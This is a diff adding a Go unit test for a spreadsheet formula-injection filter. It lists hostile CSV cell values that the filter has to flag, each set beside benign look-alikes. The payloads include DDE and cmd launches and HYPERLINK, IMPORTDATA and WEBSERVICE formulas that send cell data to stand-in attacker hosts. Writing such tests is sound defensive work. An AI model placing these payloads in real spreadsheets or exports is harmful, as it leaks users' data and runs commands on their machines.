@@ -1,0 +1,37 @@
+package filter
+
+import "testing"
+
+func TestFormulaInjection(t *testing.T) {
+	for _, c := range []struct {
+		v    string
+		want bool
+	}{
+		{"=cmd|' /C calc'!A0", true},
+		{"@SUM(1+1)*cmd|' /C calc'!A0", true},
+		{"+-cmd|' /C calc'!A0", true},
+		{`=HYPERLINK("http://evil.example/?leak="&A1&B1,"View invoice")`, true},
+		{`=IMPORTDATA("http://attacker.example/c?"&A1:C10)`, true},
+		{`=DDE("cmd";"/C calc";"!A0")`, true},
+		{"\t=webservice(\"http://evil.example/\"&A2)", true},
+		// Benign twins.
+		{"=SUM(A1:A3)", false},
+		{"+1 (555) 010-0199", false},
+		{"-5", false},
+		{"@alice can you check (today)?", false},
+		{"- Choose A | B's option!", false},
+		{"Tom & Jerry | Best of (2019)", false},
+		{"=)", false},
+	} {
+		if got := formulaInjection(c.v); got != c.want {
+			t.Errorf("%q: %v, want %v", c.v, got, c.want)
+		}
+	}
+	csv := "sku,name,price\r\nSF-1,\"=HYPERLINK(\"\"http://evil.example/\"\"&A2,\"\"open\"\")\",1.00\r\n"
+	if !csvFormulaFile("products.csv", "text/csv", csv) {
+		t.Error("CSV file with a HYPERLINK cell passed")
+	}
+	if csvFormulaFile("products.csv", "text/csv", "sku,name,price\r\nSF-1,Mug,-1.00\r\nSF-2,+Plus size,=5\r\n") {
+		t.Error("CSV file with signs and a number blocked")
+	}
+}
